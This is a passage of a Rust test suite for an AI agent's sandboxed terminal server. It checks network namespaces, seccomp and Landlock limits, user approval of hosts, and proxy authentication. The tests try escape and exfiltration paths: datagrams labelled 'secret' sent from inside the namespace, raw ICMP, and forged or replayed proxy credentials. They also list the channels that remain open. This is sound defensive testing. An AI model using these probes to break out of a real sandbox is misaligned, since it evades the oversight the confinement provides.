            s.connect(path)
            results.append("ok")
        except OSError as e:
            results.append(type(e).__name__)
    threads = [threading.Thread(target=client, daemon=True) for _ in range(count)]
    for t in threads:
        t.start()
    return threads, results

def accept_all(listener, after, most=None):
    time.sleep(after)
    listener.settimeout(3)
    accepted = []
    try:
        while most is None or len(accepted) < most:
            accepted.append(listener.accept()[0])
    except socket.timeout:
        pass
    return accepted
"#;

/// What `unix_connects_are_the_commands` runs, confined, after [`BLOCKING_CLIENTS`]: `argv[1]`
/// is a directory anyone may write.
const UNIX_CONNECTS: &str = r#"
import struct, subprocess, sys
base = sys.argv[1]

def listening(path, mode, backlog=8):
    s = socket.socket(socket.AF_UNIX)
    s.bind(path)
    os.chmod(path, mode)
    s.listen(backlog)
    return s

def filled(name):
    """A listener with a backlog of 1, which holds two connects: both made."""
    path = os.path.join(base, name)
    listener = listening(path, 0o777, backlog=1)
    for _ in range(2):
        s = socket.socket(socket.AF_UNIX)
        s.connect(path)
        held.append(s)
    return path, listener

held = []

ATTEMPT = """
import socket, sys
s = socket.socket(socket.AF_UNIX)
try:
    s.connect(sys.argv[1]); print("connected")
except OSError as e:
    print(type(e).__name__)
"""

def attempt(path, who=()):
    run = subprocess.run([*who, sys.executable, "-c", ATTEMPT, path], capture_output=True, text=True)
    return (run.stdout + run.stderr).strip()

if os.geteuid() == 0:
    closed = os.path.join(base, "closed")
    os.mkdir(closed, 0o700)
    root_only = os.path.join(closed, "root-only.sock")
    kept = [listening(root_only, 0o600)]
    opened = os.path.join(base, "open")
    os.mkdir(opened)
    os.chmod(opened, 0o755)
    anyone = os.path.join(opened, "anyone.sock")
    kept.append(listening(anyone, 0o777))
    nobody = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--"]
    print("root to root-only:", attempt(root_only))
    print("nobody to root-only:", attempt(root_only, nobody))
    print("nobody to anyone:", attempt(anyone, nobody))
    # What the listener is told of its peer: the command's user and group, as the kernel tells.
    peer = kept[1].accept()[0].getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12)
    print("peer of nobody: uid %d gid %d" % struct.unpack("3i", peer)[1:])

full_path = os.path.join(base, "full.sock")
full = listening(full_path, 0o777, backlog=1)
clients, results = blocking_clients(full_path, 6)
accepted = accept_all(full, 0.5, len(clients))
for c in clients:
    c.join()
print("backlog:", sorted(results))

# A backlog of 1 holds two; the rest wait, or not.
for _ in range(2):
    s = socket.socket(socket.AF_UNIX)
    s.connect(full_path)
    held.append(s)
s = socket.socket(socket.AF_UNIX)
s.setblocking(False)
try:
    s.connect(full_path); print("non-blocking: connected")
except OSError as e:
    print("non-blocking:", type(e).__name__)
s = socket.socket(socket.AF_UNIX)
s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, struct.pack("ll", 0, 300000))
began = time.monotonic()
try:
    s.connect(full_path); print("send timeout: connected")
except OSError as e:
    print("send timeout:", type(e).__name__, "after %.2f" % (time.monotonic() - began))

# The supervisor serves every session: at most 64 of a session's connects wait at once, the
# rest fail at once, and other connects are served meanwhile.
crowd_path, crowd = filled("crowd.sock")
clients, results = blocking_clients(crowd_path, 100)
time.sleep(1)
other_path = os.path.join(base, "other.sock")
other = listening(other_path, 0o777)
s = socket.socket(socket.AF_UNIX)
s.connect(other_path)
print("meanwhile: connected")
accepted += accept_all(crowd, 0)
for c in clients:
    c.join()
print("crowd: %d ok, %d BlockingIOError" % (results.count("ok"), results.count("BlockingIOError")))

# A signal to a waiting connect (restarted, as SA_RESTART has it) finds its place kept: it comes
# back as a new connect while its old place is not let go yet.
import signal
signal.signal(signal.SIGUSR1, lambda *_: None)
signal.siginterrupt(signal.SIGUSR1, False)
signalled_path, signalled = filled("signalled.sock")
clients, results = blocking_clients(signalled_path, 64)
time.sleep(1)
signal.pthread_kill(clients[0].ident, signal.SIGUSR1)
time.sleep(0.5)
accepted += accept_all(signalled, 0)
for c in clients:
    c.join()
print("signalled: %d ok" % results.count("ok"))

# Real work: 48 pool workers reach a manager (backlog 16) at once.
from multiprocessing import Manager, Pool
def square(args):
    d, i = args
    d[i] = i * i
    return i
if __name__ == "__main__":
    with Manager() as m:
        d = m.dict()
        with Pool(48) as p:
            done = p.map(square, [(d, i) for i in range(480)], chunksize=1)
        print("pool:", len(done), len(d))
"#;

#[tokio::test]
async fn net_loopback_closed_unix_connects_are_the_commands_as_root() {
    unix_connects_are_the_commands(Who::Root).await;
}

#[tokio::test]
async fn net_loopback_closed_unix_connects_are_the_commands_as_nobody() {
    unix_connects_are_the_commands(Who::Nobody).await;
}

/// `pip download` and `npm view` from the real registries, through the proxy (default `ask`,
/// both on the built-in list). Ignored where the registries are not reachable.
#[tokio::test]
#[ignore = "needs pip, npm and the PyPI and npm registries"]
async fn net_package_registries_work_through_the_proxy_needs_registries() {
    let setup = serve(Who::Root, &[], &[]).await;
    let (text, s) = setup
        .run("python3 -m pip download --no-deps --no-cache-dir -q -d dl six==1.16.0 && ls dl")
        .await;
    assert_eq!(s["exit_code"], 0, "{text}");
    assert!(text.contains("six-1.16.0"), "{text}");
    let (text, s) = setup
        .run("npm view --cache ./npm-cache left-pad@1.3.0 version")
        .await;
    assert_eq!(s["exit_code"], 0, "{text}");
    assert!(text.contains("1.3.0"), "{text}");
    for host in [
        "pypi.org:443",
        "files.pythonhosted.org:443",
        "registry.npmjs.org:443",
    ] {
        assert!(
            logged(
                &setup.log,
                &["network: allowed", host, "built-in"],
                Duration::from_secs(5)
            )
            .await
            .is_some(),
            "{host}: {}",
            setup.log.lock().unwrap()
        );
    }
}

/// A client that answers each network question with `answer` and counts them.
#[derive(Clone)]
pub(super) struct Answering {
    pub(super) answer: Arc<Mutex<&'static str>>,
    pub(super) asked: Arc<Mutex<Vec<String>>>,
}

impl ClientHandler for Answering {
    async fn create_elicitation(
        &self,
        request: ElicitRequestParams,
        _context: RequestContext<RoleClient>,
    ) -> Result<ElicitResult, ErrorData> {
        let ElicitRequestParams::FormElicitationParams { message, .. } = request else {
            return Ok(ElicitResult::new(ElicitationAction::Decline));
        };
        self.asked.lock().unwrap().push(message);
        let answer = *self.answer.lock().unwrap();
        Ok(
            ElicitResult::new(ElicitationAction::Accept)
                .with_content(json!({ "decision": answer })),
        )
    }

    fn get_info(&self) -> ClientConfig {
        let mut info = ClientConfig::default();
        let mut capabilities = ClientCapabilities::default();
        capabilities.elicitation =
            Some(serde_json::from_value::<ElicitationCapability>(json!({"form": {}})).unwrap());
        info.capabilities = capabilities;
        info
    }
}

/// A stdio server (default network `ask`) of `workspace`, its client answering every question
/// with its `answer` ("once" until a test changes it).
pub(super) async fn serve_answering(
    workspace: &Path,
    state: &Path,
) -> (
    Answering,
    rmcp::service::RunningService<RoleClient, Answering>,
) {
    let mut cmd = tokio::process::Command::new(env!("CARGO_BIN_EXE_agentty"));
    cmd.arg("serve")
        .arg("--workspace")
        .arg(workspace)
        .arg("--state-dir")
        .arg(state);
    let client = Answering {
        answer: Arc::new(Mutex::new("once")),
        asked: Arc::default(),
    };
    let service_client = client
        .clone()
        .serve(TokioChildProcess::new(cmd).unwrap())
        .await
        .unwrap();
    (client, service_client)
}

#[tokio::test]
async fn net_ask_approves_once_for_the_session_or_denies_over_stdio() {
    // A host not on the list that is still this machine: its own address (the near end of a
    // test host's pair), through the proxy.
    let pair = NetnsHost::new();
    let v4 = pair.near.0;
    let service = Listener::on("0.0.0.0".parse().unwrap());
    let target = format!("{v4}:{}", service.at.port());
    let workspace = tempfile::tempdir().unwrap();
    let state = agentty_testkit::state_dir();
    let (client, service_client) = serve_answering(workspace.path(), state.path()).await;
    let run = |command: String| {
        let service_client = &service_client;
        async move {
            let Value::Object(args) = json!({ "command": command }) else {
                unreachable!()
            };
            let result = service_client
                .call_tool(CallToolRequestParams::new("terminal").with_arguments(args))
                .await
                .unwrap();
            (text_of(&result), result.structured_content.unwrap())
        }
    };
    let fetch = format!("curl -sS --max-time 20 http://{target}/ 2>&1 | tail -n 1");

    // Once: asked, allowed for that command; the next command is asked again.
    let (text, s) = run(fetch.clone()).await;
    assert!(text.contains("host-service"), "{text}");
    // This client can be asked: the line says `ask`, and that the user is asked.
    let sandbox = line_of(&text, "[sandbox]");
    assert!(
        sandbox.contains("; network ask: listed hosts and loopback; the user is asked for others"),
        "{sandbox}"
    );
    assert!(s["error_code"].is_null(), "{text}");
    assert_eq!(client.asked.lock().unwrap().len(), 1);
    assert!(
        client.asked.lock().unwrap()[0].contains(&target),
        "the question names the host: {:?}",
        client.asked.lock().unwrap()
    );
    let (text, _) = run(fetch.clone()).await;
    assert!(text.contains("host-service"), "{text}");
    assert_eq!(client.asked.lock().unwrap().len(), 2, "once is one command");

    // Deny: refused, 2010, through `| tail`.
    *client.answer.lock().unwrap() = "deny";
    let (text, s) = run(fetch.clone()).await;
    assert_refused(&text, &s, &target, "the user declined it");
    assert_eq!(client.asked.lock().unwrap().len(), 3);

    // Session: asked once more, then every command of the session passes without a question.
    *client.answer.lock().unwrap() = "session";
    let (text, _) = run(fetch.clone()).await;
    assert!(text.contains("host-service"), "{text}");
    let (text, _) = run(fetch.clone()).await;
    assert!(text.contains("host-service"), "{text}");
    assert_eq!(
        client.asked.lock().unwrap().len(),
        4,
        "the session's approval holds"
    );
    assert_eq!(service.seen(), 4, "the denied connection reached the host");
    service_client.cancel().await.unwrap();
}

/// The inode of a network namespace file (`/proc/<pid>/ns/net`).
fn namespace_inode(path: &str) -> Option<u64> {
    std::fs::metadata(path)
        .ok()
        .map(|m| std::os::unix::fs::MetadataExt::ino(&m))
}

/// As root, a confined command of `allowlist` runs in a network namespace of the session's own
/// with nothing but `lo`, and nothing there routes out: from inside it, with no seccomp filter,
/// no Landlock and every capability (what a way past the filter would have), UDP, a raw ICMP
/// socket and TCP reach neither this machine's own addresses nor a test host in a namespace.
#[tokio::test]
async fn net_the_sessions_network_namespace_has_no_route_out_as_root() {
    let inside = NetnsHost::new();
    let (v4, v6) = inside.near;
    let udp = UdpSocket::bind("0.0.0.0:0").unwrap();
    udp.set_nonblocking(true).unwrap();
    let udp_port = udp.local_addr().unwrap().port();
    let setup = serve(Who::Root, &["--network", "allowlist"], &[]).await;
    let (text, s) = setup
        .run("readlink /proc/self/ns/net; cut -d: -f1 /proc/net/dev | tail -n +3")
        .await;
    assert_eq!(s["exit_code"], 0, "{text}");
    let theirs: u64 = text
        .split("net:[")
        .nth(1)
        .and_then(|rest| rest.split(']').next())
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("no namespace in {text}"));
    assert_ne!(
        Some(theirs),
        namespace_inode("/proc/self/ns/net"),
        "confined commands run in this machine's network namespace: {text}"
    );
    let interfaces: Vec<&str> = text
        .lines()
        .skip(1)
        .map(str::trim)
        .take_while(|l| !l.is_empty() && !l.starts_with('['))
        .collect();
    assert_eq!(interfaces, ["lo"], "{text}");
    // A process of that namespace (the session's init holds it), to enter it from a thread.
    let holder = std::fs::read_dir("/proc")
        .unwrap()
        .filter_map(|e| e.ok()?.file_name().into_string().ok())
        .filter(|name| name.bytes().all(|b| b.is_ascii_digit()))
        .find(|pid| namespace_inode(&format!("/proc/{pid}/ns/net")) == Some(theirs))
        .expect("a process in the commands' network namespace");
    let path = format!("/proc/{holder}/ns/net");
    let tried = std::thread::spawn(move || {
        let ns = std::fs::File::open(&path).unwrap();
        // SAFETY: setns on an open namespace fd, for this thread only.
        let rc = unsafe { libc::setns(std::os::fd::AsRawFd::as_raw_fd(&ns), libc::CLONE_NEWNET) };
        assert_eq!(rc, 0, "setns: {}", std::io::Error::last_os_error());
        let mut outcomes = Vec::new();
        for to in [
            SocketAddr::new(IpAddr::V4(inside.ip), inside.listener.at.port()),
            SocketAddr::new(v4, udp_port),
            SocketAddr::new(v6, udp_port),
        ] {
            let any: SocketAddr = if to.is_ipv4() {
                "0.0.0.0:0".parse().unwrap()
            } else {
                "[::]:0".parse().unwrap()
            };
            let sent = UdpSocket::bind(any).and_then(|u| u.send_to(b"secret", to));
            outcomes.push((format!("UDP to {to}"), sent.map(drop)));
            let connected = std::net::TcpStream::connect_timeout(&to, Duration::from_secs(5));
            outcomes.push((format!("TCP to {to}"), connected.map(drop)));
        }
        outcomes.push((format!("ICMP to {}", inside.ip), raw_icmp_to(inside.ip)));
        (outcomes, inside)
    });
    let (outcomes, inside) = tried.join().unwrap();
    for (what, outcome) in outcomes {
        let error = outcome.expect_err(&what);
        assert_eq!(
            error.raw_os_error(),
            Some(libc::ENETUNREACH),
            "{what}: {error}"
        );
    }
    assert_eq!(
        inside.listener.seen(),
        0,
        "a connection reached the test host"
    );
    assert!(
        udp.recv_from(&mut [0u8; 64]).is_err(),
        "a datagram reached this machine's own address"
    );
}

/// A root server without `CAP_NET_ADMIN` (a container given `SYS_ADMIN` only: Docker's and
/// Kubernetes' defaults leave `NET_ADMIN` out) still makes the session's network namespace, and a
/// dev server a command starts there still listens on this machine: reached by the next call and
/// by a plain connect of the test.
#[tokio::test]
async fn net_a_dev_server_is_reached_from_this_machine_without_cap_net_admin() {
    let wrapper = [
        "setpriv",
        "--bounding-set=-net_admin",
        "--inh-caps=-net_admin",
        "--",
    ];
    let setup = serve(Who::Root, &["--network", "allowlist"], &wrapper).await;
    let (text, _) = setup.run("true").await;
    assert!(
        line_of(&text, "[sandbox]").contains(held(Who::Root)),
        "{text}"
    );
    let port = TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    std::fs::write(setup.server.workspace().join("index.html"), "no-net-admin").unwrap();
    setup
        .server
        .background(json!({
            "command": format!("python3 -m http.server {port} --bind 127.0.0.1")
        }))
        .await;
    let (text, s) = setup
        .run(&format!(
            "for i in $(seq 50); do curl -sS --max-time 2 http://127.0.0.1:{port}/index.html \
             2>/dev/null && exit 0; sleep 0.1; done; exit 1"
        ))
        .await;
    assert_eq!(s["exit_code"], 0, "{text}");
    assert!(text.contains("no-net-admin"), "{text}");
    assert!(
        http_get(port).contains("no-net-admin"),
        "the dev server is not reachable from this machine"
    );
}

/// A raw ICMP echo request to `to` from the calling thread (a raw socket: root's CAP_NET_RAW).
fn raw_icmp_to(to: std::net::Ipv4Addr) -> std::io::Result<()> {
    // SAFETY: socket with constant arguments; the fd is closed below.
    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_ICMP) };
    if fd < 0 {
        return Err(std::io::Error::last_os_error());
    }
    // Type 8 (echo request), code 0, checksum 0xf7ff for this all-zero rest.
    let packet: [u8; 8] = [8, 0, 0xf7, 0xff, 0, 0, 0, 0];
    let address = libc::sockaddr_in {
        sin_family: libc::AF_INET as libc::sa_family_t,
        sin_port: 0,
        sin_addr: libc::in_addr {
            s_addr: u32::from_ne_bytes(to.octets()),
        },
        sin_zero: [0; 8],
    };
    // SAFETY: sends 8 bytes from a live buffer to a valid sockaddr_in; closes our fd.
    unsafe {
        let rc = libc::sendto(
            fd,
            packet.as_ptr().cast(),
            packet.len(),
            0,
            (&raw const address).cast(),
            std::mem::size_of::<libc::sockaddr_in>() as libc::socklen_t,
        );
        let error = std::io::Error::last_os_error();
        libc::close(fd);
        if rc < 0 { Err(error) } else { Ok(()) }
    }
}

/// `agentty doctor` as `who`, with `flags`: its output.
pub(super) fn doctor(who: Who, flags: &[&str]) -> String {
    let workspace = tempfile::tempdir().unwrap();
    let state = tempfile::Builder::new()
        .prefix("doctor-state-")
        .tempdir_in(env!("CARGO_TARGET_TMPDIR"))
        .unwrap();
    if who == Who::Nobody {
        chown_to_nobody(workspace.path());
        chown_to_nobody(state.path());
    }
    let mut cmd = match who {
        Who::Root => std::process::Command::new(env!("CARGO_BIN_EXE_agentty")),
        Who::Nobody => {
            let mut cmd = std::process::Command::new("setpriv");
            cmd.args([
                &format!("--reuid={NOBODY}"),
                &format!("--regid={NOBODY}"),
                "--clear-groups",
                "--",
                env!("CARGO_BIN_EXE_agentty"),
            ]);
            cmd
        }
    };
    let out = cmd
        .arg("doctor")
        .arg("--workspace")
        .arg(workspace.path())
        .arg("--state-dir")
        .arg(state.path())
        .args(flags)
        .env("HOME", state.path())
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(
        out.status.success(),
        "{text}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    text
}

/// The line of `text` that starts with `prefix`.
#[track_caller]
pub(super) fn line_of<'a>(text: &'a str, prefix: &str) -> &'a str {
    text.lines()
        .find(|l| l.starts_with(prefix))
        .unwrap_or_else(|| panic!("no {prefix:?} line in:\n{text}"))
}

/// What the `[sandbox]` line says holds the network for `who`: a root server's commands have
/// a network namespace of their own, nobody's the seccomp and Landlock layer alone.
fn held(who: Who) -> &'static str {
    match who {
        Who::Root => "; held by netns+seccomp+Landlock",
        Who::Nobody => "; held by seccomp+Landlock",
    }
}

/// `doctor` and the `[sandbox]` line say which mechanism holds the network here and what a
/// command could still do, and how to get `on` back; the default is `ask`.
#[tokio::test]
async fn net_doctor_and_the_sandbox_line_say_what_holds_the_network() {
    // This kernel has Landlock's TCP rule (ABI 4 and later): both mechanisms hold.
    let abi = agentty_sandbox::landlock_abi().unwrap_or(0);
    assert!(
        abi >= 4,
        "Landlock ABI {abi}: these tests expect the TCP rule"
    );
    for who in [Who::Root, Who::Nobody] {
        for (flags, mode) in [
            (&[][..], "ask"),
            (&["--network", "ask"][..], "ask"),
            (&["--network", "allowlist"][..], "allowlist"),
        ] {
            let text = doctor(who, flags);
            let line = line_of(&text, "network: ");
            for words in [
                &format!("network: {mode}: listed hosts through agentty's proxy")[..],
                "a seccomp filter refuses UDP, raw and ICMP sockets",
                "Landlock's TCP rule refuses a command's own connect",
                "can still send what it reads to a listed host",
                "every service listening on this machine's loopback",
                "every one on a unix socket it may open",
                "listening sockets itself, on this machine's loopback only",
                "network = \"on\" in the [sandbox] section (or --network on)",
            ] {
                assert!(
                    line.contains(words),
                    "{who:?} {flags:?}: {words:?} not in {line}"
                );
            }
            assert_eq!(
                line.contains("asked of the user"),
                mode == "ask",
                "{who:?} {flags:?}: {line}"
            );
            let sandbox = line_of(&text, "commands would run with: ");
            assert!(
                sandbox.contains(&format!("network {mode}: listed hosts and loopback"))
                    && sandbox.contains(held(who)),
                "{who:?} {flags:?}: {sandbox}"
            );
            let namespace = match who {
                Who::Root => {
                    "commands run in a network namespace of the session's own with nothing but \
                     lo, so what the filter does not see"
                }
                Who::Nobody => {
                    "no network namespace of the session's own (it needs CAP_SYS_ADMIN): the \
                     filter and Landlock hold alone"
                }
            };
            assert!(
                line.contains(namespace),
                "{who:?} {flags:?}: {namespace:?} not in {line}"
            );
        }
        // Loopback closed: the unix sockets of the machine's services are closed too, but for
        // datagrams, and it says so.
        let text = doctor(who, &["--network", "allowlist", "--no-loopback"]);
        let line = line_of(&text, "network: ");
        assert!(
            line.contains("refuses those of this machine's services")
                && line.contains("may not make a unix datagram socket"),
            "{who:?}: {line}"
        );
        let text = doctor(who, &["--network", "on"]);
        let line = line_of(&text, "network: ");
        assert!(line.starts_with("network: open:"), "{who:?}: {line}");
        let sandbox = line_of(&text, "commands would run with: ");
        assert!(!sandbox.contains("network"), "{who:?}: {sandbox}");
    }
}

/// The `[sandbox]` line every result carries says, in few words, the network mode as this
/// client gets it, what is refused and how the user allows more; the mechanism and what still
/// gets through are `doctor`'s. A client that cannot be asked (this test's: no elicitation)
/// gets `ask` as `allowlist`, and the line says so.
#[tokio::test]
async fn net_the_sandbox_line_says_the_mode_this_client_gets_in_few_words() {
    for who in [Who::Root, Who::Nobody] {
        for (flags, mode) in [
            (&["--network", "allowlist"][..], "allowlist"),
            (&[][..], "allowlist (this client cannot ask the user)"),
        ] {
            let setup = serve(who, flags, &[]).await;
            let (text, _) = setup.run("true").await;
            let sandbox = line_of(&text, "[sandbox]");
            let said = format!(
                "; network {mode}: listed hosts and loopback; others refused (the user allows \
                 more with allow_net)"
            );
            assert!(sandbox.contains(&said), "{who:?} {flags:?}: {sandbox}");
            assert!(sandbox.contains(held(who)), "{who:?} {flags:?}: {sandbox}");
            assert!(!sandbox.contains("asked"), "{who:?} {flags:?}: {sandbox}");
            // It is on every result: the mechanism in three words, the rest is doctor's (it was
            // 246 characters here in `allowlist`, 275 for this client in `ask`, before the
            // namespace's word).
            assert!(
                sandbox.chars().count() <= 260,
                "{who:?} {flags:?}: {} characters: {sandbox}",
                sandbox.chars().count()
            );
        }
    }
}

/// The proxy listens on loopback, where any process of the machine reaches it: it answers only a
/// running call's own credentials (a confined command gets them in `HTTP_PROXY`). None, forged
/// ones, and those a call wrote down for a later one are all 407, refused before any lookup.
#[tokio::test]
async fn net_the_proxy_answers_only_a_running_calls_own_credentials() {
    let setup = serve(Who::Root, &[], &[]).await;
    let (text, s) = setup.run("echo \"$HTTP_PROXY\" > cred").await;
    assert_eq!(s["exit_code"], 0, "{text}");
    let asked = |proxy: &str| {
        format!(
            "p=${{HTTP_PROXY##*@}}; curl -sS --noproxy '' -o /dev/null -w '%{{http_code}}\\n' \
             -x \"{proxy}\" http://pypi.org/"
        )
    };
    for (what, proxy) in [
        ("no credentials", "http://$p"),
        ("forged credentials", "http://agentty:forged@$p"),
        ("an ended call's credentials", "$(cat cred)"),
    ] {
        let (text, s) = setup.run(&asked(proxy)).await;
        assert_eq!(s["exit_code"], 0, "{text}");
        assert!(text.starts_with("407\n"), "{what}: {text}");
    }
    // The same request with the call's own credentials goes through (loopback is open).
    let service = Listener::on("127.0.0.1".parse().unwrap());
    let (text, _) = setup
        .run(&format!(
            "curl -sS --noproxy '' -x \"$HTTP_PROXY\" http://localhost:{}/",
            service.at.port()
        ))
        .await;
    assert!(text.contains("host-service"), "{text}");
}

/// The web view words a job's network as the model's result did: where the client cannot be
/// asked (no elicitation, as here), `ask` is `allowlist` on both. The page said "the user is
/// asked for others" of connections that were refused.
#[tokio::test]
async fn the_view_words_a_jobs_network_as_its_result_did() {
    let setup = super::planted::serve(Who::Root, false, &["--view", "127.0.0.1:0"]).await;
    let started = setup
        .server
        .call(
            "terminal",
            json!({"command": "sleep 30", "background": true}),
        )
        .await;
    let s = started.structured_content.clone().unwrap_or(Value::Null);
    let told = s["sandbox"]
        .as_str()
        .unwrap_or_else(|| panic!("{started:?}"));
    let network = told
        .split("; ")
        .find(|part| part.starts_with("network "))
        .unwrap_or_else(|| panic!("{told}"));
    assert!(
        network.starts_with("network allowlist (this client cannot ask the user)"),
        "{told}"
    );
    let state = super::planted::view_state_of(&setup).await;
    let shown = state["sessions"][0]["jobs"][0]["sandbox"]
        .as_str()
        .unwrap_or_else(|| panic!("{state}"));
    assert!(
        shown.contains(network),
        "the page: {shown}\nthe result: {told}"
    );
    assert!(!shown.contains("asked"), "{shown}");
}
